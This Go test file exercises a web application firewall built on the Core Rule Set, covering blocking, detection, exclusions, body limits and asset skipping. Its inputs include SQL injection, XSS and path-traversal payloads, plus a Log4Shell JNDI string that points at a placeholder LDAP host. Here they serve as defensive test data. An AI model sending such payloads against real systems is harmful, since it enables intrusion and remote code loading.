package waf

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"io"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

// Compiling the CRS takes a while (much longer under -race): the tests
// share these.
var (
	blockWAF  = sync.OnceValues(func() (*WAF, error) { return New(Config{Mode: ModeBlock}) })
	detectWAF = sync.OnceValues(func() (*WAF, error) { return New(Config{Mode: ModeDetect}) })
	// smallWAF inspects 1 KiB of a body and has a rule that names the
	// client address it sees.
	smallWAF = sync.OnceValues(func() (*WAF, error) {
		return newWAF(Config{Mode: ModeBlock, BodyLimit: 1 << 10},
			`SecRule REMOTE_ADDR "@ipMatch 203.0.113.7" "id:1001,phase:1,pass,log,t:none,msg:'client 203.0.113.7'"`)
	})
)

func mustWAF(t testing.TB, f func() (*WAF, error)) *WAF {
	t.Helper()
	w, err := f()
	if err != nil {
		t.Fatal(err)
	}
	return w
}

// recorder is an upstream and a verdict callback that remember what they saw.
type recorder struct {
	mu       sync.Mutex
	reached  int
	body     []byte
	bodyErr  error
	verdicts []Verdict
}

func (rc *recorder) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	b, err := io.ReadAll(r.Body)
	rc.mu.Lock()
	rc.reached++
	rc.body, rc.bodyErr = b, err
	rc.mu.Unlock()
	io.WriteString(w, "upstream\n")
}

func (rc *recorder) verdict(_ *http.Request, v Verdict) {
	rc.mu.Lock()
	rc.verdicts = append(rc.verdicts, v)
	rc.mu.Unlock()
}

// serve runs r through w's handler and returns the status.
func serve(w *WAF, rc *recorder, r *http.Request) int {
	rec := httptest.NewRecorder()
	w.Handler(rc, rc.verdict).ServeHTTP(rec, r)
	return rec.Code
}

func get(target string) *http.Request {
	r := httptest.NewRequest(http.MethodGet, target, nil)
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0")
	r.Header.Set("Accept", "text/html,*/*;q=0.8")
	return r
}

func post(target, ctype string, body io.Reader, length int64) *http.Request {
	r := httptest.NewRequest(http.MethodPost, target, body)
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0")
	r.Header.Set("Accept", "*/*")
	r.Header.Set("Content-Type", ctype)
	r.ContentLength = length
	if length >= 0 {
		r.Header.Set("Content-Length", strconv.FormatInt(length, 10))
	} else {
		r.TransferEncoding = []string{"chunked"} // as net/http's server has it
	}
	return r
}

func postForm(target, form string) *http.Request {
	return post(target, "application/x-www-form-urlencoded", strings.NewReader(form), int64(len(form)))
}

func ruleIDs(v Verdict) []int {
	var ids []int
	for _, m := range v.Matches {
		ids = append(ids, m.RuleID)
	}
	return ids
}

const (
	sqliTarget = "/search?id=1%27%20OR%20%271%27%3D%271" // id=1' OR '1'='1
	xssForm    = "name=ann&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
)

func TestBlockAndDetect(t *testing.T) {
	tests := []struct {
		name    string
		req     func() *http.Request
		attack  bool
		wantIDs []int // among the matches
	}{
		{"sql injection in the query", func() *http.Request { return get(sqliTarget) }, true, []int{942100, 949110}},
		{"xss in a form field", func() *http.Request { return postForm("/comments", xssForm) }, true, []int{941100, 949110}},
		{"benign GET", func() *http.Request { return get("/products/view?id=42&sort=price") }, false, nil},
		{"benign POST", func() *http.Request { return postForm("/cart", "item=42&qty=2&note=gift+wrap") }, false, nil},
	}
	for _, mode := range []Mode{ModeBlock, ModeDetect} {
		w := mustWAF(t, map[Mode]func() (*WAF, error){ModeBlock: blockWAF, ModeDetect: detectWAF}[mode])
		for _, tt := range tests {
			t.Run(string(mode)+"/"+tt.name, func(t *testing.T) {
				rc := &recorder{}
				got := serve(w, rc, tt.req())
				blocked := tt.attack && mode == ModeBlock
				wantStatus, wantReached := http.StatusOK, 1
				if blocked {
					wantStatus, wantReached = http.StatusForbidden, 0
				}
				if got != wantStatus || rc.reached != wantReached {
					t.Errorf("status %d, upstream reached %d times; want %d, %d", got, rc.reached, wantStatus, wantReached)
				}
				if len(rc.verdicts) != 1 {
					t.Fatalf("onVerdict called %d times, want once", len(rc.verdicts))
				}
				v := rc.verdicts[0]
				wantVStatus := 0
				if tt.attack {
					wantVStatus = http.StatusForbidden // in detect mode: what block mode would answer
				}
				if v.Blocked != blocked || v.Status != wantVStatus {
					t.Errorf("verdict Blocked %v, Status %d; want %v, %d", v.Blocked, v.Status, blocked, wantVStatus)
				}
				ids := ruleIDs(v)
				for _, id := range tt.wantIDs {
					if !slices.Contains(ids, id) {
						t.Errorf("rule %d not among the matches %v", id, ids)
					}
				}
				if tt.attack && v.Score < 5 || !tt.attack && (v.Score != 0 || len(ids) != 0) {
					t.Errorf("score %d, matches %v", v.Score, ids)
				}
			})
		}
	}
}

func TestNewValidates(t *testing.T) {
	tests := []struct {
		name string
		cfg  Config
		want string // in the error
	}{
		{"mode", Config{Mode: "audit"}, `mode "audit"`},
		{"paranoia", Config{Paranoia: 5}, "paranoia 5"},
		{"negative body limit", Config{BodyLimit: -1}, "body_limit -1"},
		{"huge body limit", Config{BodyLimit: 2 << 30}, "body_limit"},
		{"threshold", Config{AnomalyThreshold: -3}, "anomaly_threshold -3"},
		{"extension without dot", Config{SkipExtensions: []string{".css", "js"}}, `skip_extensions[1] "js"`},
		{"extension with slash", Config{SkipExtensions: []string{"./x"}}, "skip_extensions[0]"},
		{"exclusion without ids", Config{Exclusions: []Exclusion{{PathPrefix: "/api"}}}, "exclusions[0]: no rule ids"},
		{"exclusion id", Config{Exclusions: []Exclusion{{IDs: []int{942100, -1}}}}, "exclusions[0].ids[1] -1"},
		{"relative prefix", Config{Exclusions: []Exclusion{{IDs: []int{942100}, PathPrefix: "api"}}}, "exclusions[0].path_prefix"},
		{"unclean prefix", Config{Exclusions: []Exclusion{{IDs: []int{942100}, PathPrefix: "/a/../b"}}}, "exclusions[0].path_prefix"},
		{"unknown rule", Config{Mode: ModeBlock, Exclusions: []Exclusion{{IDs: []int{942100}}, {IDs: []int{941100, 123456}}}}, "exclusions[1].ids[1]: no request rule 123456"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := New(tt.cfg)
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("New: %v; want an error with %q", err, tt.want)
			}
		})
	}
}

func TestModeOffAndDefaults(t *testing.T) {
	w, err := New(Config{Mode: ModeOff, Exclusions: []Exclusion{{IDs: []int{1}, PathPrefix: "/x"}}})
	if err != nil {
		t.Fatal(err)
	}
	next := &recorder{}
	if h := w.Handler(next, nil); h != http.Handler(next) {
		t.Errorf("off: Handler returned %T, want next itself", h)
	}
	var none *WAF
	if h := none.Handler(next, nil); h != http.Handler(next) {
		t.Errorf("nil WAF: Handler returned %T, want next itself", h)
	}
	d := mustWAF(t, detectWAF)
	if got := []any{d.Mode(), d.limit, d.threshold, len(d.skip)}; !cmp.Equal(got, []any{ModeDetect, int64(128 << 10), 5, len(DefaultSkipExtensions)}) {
		t.Errorf("defaults (mode, body limit, threshold, extensions) = %v", got)
	}
}

// scoringRules are the rules that matched r in detect mode, without the
// anomaly evaluation rules.
func scoringRules(t *testing.T, r *http.Request) []int {
	t.Helper()
	rc := &recorder{}
	serve(mustWAF(t, detectWAF), rc, r)
	var ids []int
	for _, id := range ruleIDs(rc.verdicts[0]) {
		if id/1000 != 949 {
			ids = append(ids, id)
		}
	}
	if !slices.Contains(ids, 942100) {
		t.Fatalf("the SQL injection matched %v, without 942100", ids)
	}
	return ids
}

func TestExclusionByPath(t *testing.T) {
	ids := scoringRules(t, get(sqliTarget))
	w, err := New(Config{Mode: ModeBlock, Exclusions: []Exclusion{{IDs: ids, PathPrefix: "/api/"}}})
	if err != nil {
		t.Fatal(err)
	}
	const q = "?id=1%27%20OR%20%271%27%3D%271"
	tests := []struct {
		target string
		want   int
	}{
		{"/api" + q, http.StatusOK},
		{"/api/search" + q, http.StatusOK},
		{"/apix/search" + q, http.StatusForbidden},
		{"/shop/search" + q, http.StatusForbidden},
		{"/api/%2e%2e/shop" + q, http.StatusForbidden},
		{"/api/..%2fshop" + q, http.StatusForbidden},
		{"/api/..%5cshop" + q, http.StatusForbidden},
		{"/x/..%2fapi/search" + q, http.StatusForbidden}, // under /api only once decoded
	}
	for _, tt := range tests {
		t.Run(tt.target, func(t *testing.T) {
			rc := &recorder{}
			if got := serve(w, rc, get(tt.target)); got != tt.want {
				t.Errorf("status %d, want %d (matches %v)", got, tt.want, ruleIDs(rc.verdicts[0]))
			}
		})
	}
	t.Run("everywhere", func(t *testing.T) {
		w, err := New(Config{Mode: ModeBlock, Exclusions: []Exclusion{{IDs: ids}}})
		if err != nil {
			t.Fatal(err)
		}
		rc := &recorder{}
		if got := serve(w, rc, get("/shop/search"+q)); got != http.StatusOK || len(rc.verdicts[0].Matches) != 0 {
			t.Errorf("status %d, matches %v; want 200 and none", got, ruleIDs(rc.verdicts[0]))
		}
	})
}

func TestStaticAssetNotInspected(t *testing.T) {
	w := mustWAF(t, blockWAF)
	const log4shell = "${jndi:ldap://198.51.100.9/a}"
	for _, tt := range []struct {
		target      string
		wantStatus  int
		wantVerdict int
	}{
		{"/static/app.js?v=3.1.4", http.StatusOK, 0},
		{"/img/logo.PNG", http.StatusOK, 0},
		{"/account", http.StatusForbidden, 1},                    // the same header elsewhere is caught
		{"/static/app.js?v=1%27OR%271", http.StatusForbidden, 1}, // a query that is not plain is inspected
		{"/static/%2e%2e/admin.js", http.StatusForbidden, 1},     // so is a path that is not
		{"/video/intro.mp4", http.StatusForbidden, 1},            // media is not in the default list
	} {
		t.Run(tt.target, func(t *testing.T) {
			rc := &recorder{}
			r := get(tt.target)
			r.Header.Set("User-Agent", log4shell)
			got := serve(w, rc, r)
			if got != tt.wantStatus || len(rc.verdicts) != tt.wantVerdict {
				t.Errorf("status %d, %d verdicts; want %d, %d", got, len(rc.verdicts), tt.wantStatus, tt.wantVerdict)
			}
		})
	}
}

func TestSkips(t *testing.T) {
	w := &WAF{skip: map[string]struct{}{".js": {}, ".png": {}}}
	none := &WAF{skip: map[string]struct{}{}}
	tests := []struct {
		name   string
		w      *WAF
		method string
		target string
		body   string
		want   bool
	}{
		{"js", w, "GET", "/static/app.js", "", true},
		{"head", w, "HEAD", "/a/b.png", "", true},
		{"upper case extension", w, "GET", "/a/B.PNG", "", true},
		{"cache buster", w, "GET", "/app.js?v=1.2.3&h=abc-_~", "", true},
		{"post", w, "POST", "/app.js", "", false},
		{"body", w, "GET", "/app.js", "x=1", false},
		{"other extension", w, "GET", "/index.php", "", false},
		{"no extension", w, "GET", "/js", "", false},
		{"dot file", w, "GET", "/.js", "", false},
		{"directory", w, "GET", "/app.js/", "", false},
		{"quote in query", w, "GET", "/app.js?v=1'", "", false},
		{"escape in query", w, "GET", "/app.js?v=%27", "", false},
		{"long query", w, "GET", "/app.js?v=" + strings.Repeat("a", 300), "", false},
		{"escape in path", w, "GET", "/a%2fb.js", "", false},
		{"dot dot", w, "GET", "/a/../b.js", "", false},
		{"double slash", w, "GET", "//b.js", "", false},
		{"path parameter", w, "GET", "/b.js;jsessionid=1", "", false},
		{"php behind", w, "GET", "/index.php/x.js", "", true}, // plain; its query would be inspected if it had one
		{"nothing to skip", none, "GET", "/app.js", "", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var body io.Reader
			if tt.body != "" {
				body = strings.NewReader(tt.body)
			}
			r := httptest.NewRequest(tt.method, tt.target, body)
			if got := tt.w.skips(r); got != tt.want {
				t.Errorf("skips(%s %s) = %v, want %v", tt.method, tt.target, got, tt.want)
			}
		})
	}
}

// pseudoRandom is n reproducible bytes.
func pseudoRandom(n int) []byte {
	b := make([]byte, n)
	r := rand.New(rand.NewPCG(1, 2))
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	return b
}

// noLen hides a reader's Len, so the body has no known length.
type noLen struct{ io.Reader }

func TestLargeBodyPassesIntact(t *testing.T) {
	const size = 10 << 20
	// Uploads of 10 MiB, far over the 128 KiB inspected: binary in a
	// multipart file part, and hex text in JSON and a form.
	// Built by repeating 64 KiB, which is quick under -race too.
	block := pseudoRandom(64 << 10)
	random := bytes.Repeat(block, size/len(block))
	hexText := strings.Repeat(hex.EncodeToString(block), size/2/len(block))
	var multipart bytes.Buffer
	multipart.WriteString("--b0undary\r\nContent-Disposition: form-data; name=\"file\"; filename=\"photo.raw\"\r\nContent-Type: application/octet-stream\r\n\r\n")
	multipart.Write(random)
	multipart.WriteString("\r\n--b0undary--\r\n")
	// The form goes through the WAF that inspects 1 KiB: the rules take
	// some 0.8 s of CPU over a 128 KiB form field (ten times that under
	// -race); a cut JSON document or a file part is cheap.
	bodies := []struct {
		name, ctype string
		data        []byte
		w           func() (*WAF, error)
	}{
		{"multipart", "multipart/form-data; boundary=b0undary", multipart.Bytes(), blockWAF},
		{"json", "application/json", []byte(`{"blob":"` + hexText + `"}`), blockWAF},
		{"form", "application/x-www-form-urlencoded", []byte("blob=" + hexText), smallWAF},
	}
	for _, b := range bodies {
		w := mustWAF(t, b.w)
		want := sha256.Sum256(b.data)
		for _, known := range []bool{true, false} {
			t.Run(b.name+"/length known "+strconv.FormatBool(known), func(t *testing.T) {
				var body io.Reader = bytes.NewReader(b.data)
				length := int64(len(b.data))
				if !known {
					body, length = noLen{body}, -1
				}
				rc := &recorder{}
				got := serve(w, rc, post("/upload", b.ctype, body, length))
				if got != http.StatusOK || rc.reached != 1 {
					t.Fatalf("status %d, upstream reached %d times; want 200, 1 (matches %v)", got, rc.reached, ruleIDs(rc.verdicts[0]))
				}
				if rc.bodyErr != nil || len(rc.body) != len(b.data) || sha256.Sum256(rc.body) != want {
					t.Errorf("upstream got %d bytes (error %v), not the %d sent", len(rc.body), rc.bodyErr, len(b.data))
				}
				if v := rc.verdicts[0]; !v.Partial || v.Blocked {
					t.Errorf("verdict Partial %v, Blocked %v; want true, false", v.Partial, v.Blocked)
				}
			})
		}
	}
	t.Run("attack within the limit", func(t *testing.T) {
		form := xssForm + "&pad=" + strings.Repeat("a", size)
		rc := &recorder{}
		if got := serve(mustWAF(t, smallWAF), rc, postForm("/comments", form)); got != http.StatusForbidden {
			t.Errorf("status %d, want 403", got)
		}
	})
}

func TestBodyAtTheLimit(t *testing.T) {
	w := mustWAF(t, smallWAF)    // inspects 1 KiB
	json := func(n int) string { // a valid JSON document of n bytes
		return `{"a":"` + strings.Repeat("x", n-8) + `"}`
	}
	tests := []struct {
		name        string
		ctype, body string
		wantStatus  int
		wantPartial bool
	}{
		{"json under the limit", "application/json", json(1000), http.StatusOK, false},
		{"json over the limit, cut", "application/json", json(5000), http.StatusOK, true},
		{"broken json", "application/json", `{"a":`, http.StatusBadRequest, false},
		{"form over the limit", "application/x-www-form-urlencoded", "a=" + strings.Repeat("b", 3000), http.StatusOK, true},
		{"exactly the limit", "application/x-www-form-urlencoded", "a=" + strings.Repeat("z", 1<<10-2), http.StatusOK, false},
		{"a byte over", "application/x-www-form-urlencoded", "a=" + strings.Repeat("z", 1<<10-1), http.StatusOK, true},
	}
	for _, tt := range tests {
		for _, known := range []bool{true, false} {
			t.Run(tt.name+"/length known "+strconv.FormatBool(known), func(t *testing.T) {
				var body io.Reader = strings.NewReader(tt.body)
				length := int64(len(tt.body))
				if !known {
					body, length = noLen{body}, -1
				}
				rc := &recorder{}
				got := serve(w, rc, post("/api/items", tt.ctype, body, length))
				if got != tt.wantStatus {
					t.Errorf("status %d, want %d (matches %v)", got, tt.wantStatus, ruleIDs(rc.verdicts[0]))
				}
				if v := rc.verdicts[0]; v.Partial != tt.wantPartial {
					t.Errorf("Partial %v, want %v", v.Partial, tt.wantPartial)
				}
				if got == http.StatusOK && string(rc.body) != tt.body {
					t.Errorf("upstream got %d bytes, not the %d sent", len(rc.body), len(tt.body))
				}
			})
		}
	}
}

// failingBody yields some bytes, then an error.
type failingBody struct {
	data []byte
	err  error
}

func (f *failingBody) Read(p []byte) (int, error) {
	if len(f.data) == 0 {
		return 0, f.err
	}
	n := copy(p, f.data)
	f.data = f.data[n:]
	return n, nil
}

func TestBodyReadErrorReachesUpstream(t *testing.T) {
	errCut := errors.New("connection cut")
	rc := &recorder{}
	r := post("/upload", "text/plain", &failingBody{data: []byte("first bytes"), err: errCut}, 1000)
	if got := serve(mustWAF(t, detectWAF), rc, r); got != http.StatusOK {
		t.Fatalf("status %d", got)
	}
	if string(rc.body) != "first bytes" || !errors.Is(rc.bodyErr, errCut) {
		t.Errorf("upstream read %q, %v; want the first bytes, then the error", rc.body, rc.bodyErr)
	}
}

func TestClientAddress(t *testing.T) {
	w := mustWAF(t, smallWAF) // rule 1001 matches client 203.0.113.7
	client := netip.MustParseAddr("203.0.113.7")
	tests := []struct {
		name   string
		remote string
		ctx    func(context.Context) context.Context
		want   bool
	}{
		{"peer", "203.0.113.7:5000", nil, true},
		{"other peer", "192.0.2.1:5000", nil, false},
		{"client from the proxy", "192.0.2.1:5000", func(c context.Context) context.Context { return WithClient(c, client) }, true},
		{"mapped", "[::ffff:203.0.113.7]:5000", nil, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := get("/")
			r.RemoteAddr = tt.remote
			if tt.ctx != nil {
				r = r.WithContext(tt.ctx(r.Context()))
			}
			rc := &recorder{}
			serve(w, rc, r)
			if got := slices.Contains(ruleIDs(rc.verdicts[0]), 1001); got != tt.want {
				t.Errorf("rule 1001 matched: %v, want %v", got, tt.want)
			}
		})
	}
}

func TestMatchDataIsCut(t *testing.T) {
	payload := "%3Cscript%3Ealert(%22" + strings.Repeat("%C3%A9", 400) + "%22)%3C%2Fscript%3E"
	rc := &recorder{}
	serve(mustWAF(t, detectWAF), rc, get("/?q="+payload))
	v := rc.verdicts[0]
	if len(v.Matches) == 0 {
		t.Fatal("no matches")
	}
	for _, m := range v.Matches {
		if len(m.Data) > 256 || len(m.Message) > 256 || !utf8.ValidString(m.Data) {
			t.Errorf("rule %d: data of %d bytes (valid UTF-8 %v), message of %d", m.RuleID, len(m.Data), utf8.ValidString(m.Data), len(m.Message))
		}
	}
}

func TestTruncate(t *testing.T) {
	tests := []struct {
		in   string
		n    int
		want string
	}{
		{"short", 10, "short"},
		{"exactly", 7, "exactly"},
		{"abcdef", 3, "abc"},
		{"aé", 2, "a"},   // é is 2 bytes: not cut inside
		{"a€b", 3, "a"},  // € is 3 bytes
		{"a€b", 4, "a€"}, // fits
		{"😀x", 3, ""},    // 4-byte rune
		{"\xff\xfe", 1, "\xff"},
	}
	for _, tt := range tests {
		if got := truncate(tt.in, tt.n); got != tt.want {
			t.Errorf("truncate(%q, %d) = %q, want %q", tt.in, tt.n, got, tt.want)
		}
	}
}

func TestCleanPathAndUnder(t *testing.T) {
	tests := []struct {
		path, prefix string
		want         bool
	}{
		{"/api", "/api", true},
		{"/api/x", "/api", true},
		{"/apix", "/api", false},
		{"/a/../api/x", "/api", true},
		{`/api\..\admin`, "/api", false},
		{"api/x", "/api", true},
		{"/api/./x//y", "/api", true},
		{"/", "/api", false},
	}
	for _, tt := range tests {
		if got := under(cleanPath(tt.path), tt.prefix); got != tt.want {
			t.Errorf("under(cleanPath(%q), %q) = %v, want %v", tt.path, tt.prefix, got, tt.want)
		}
	}
}
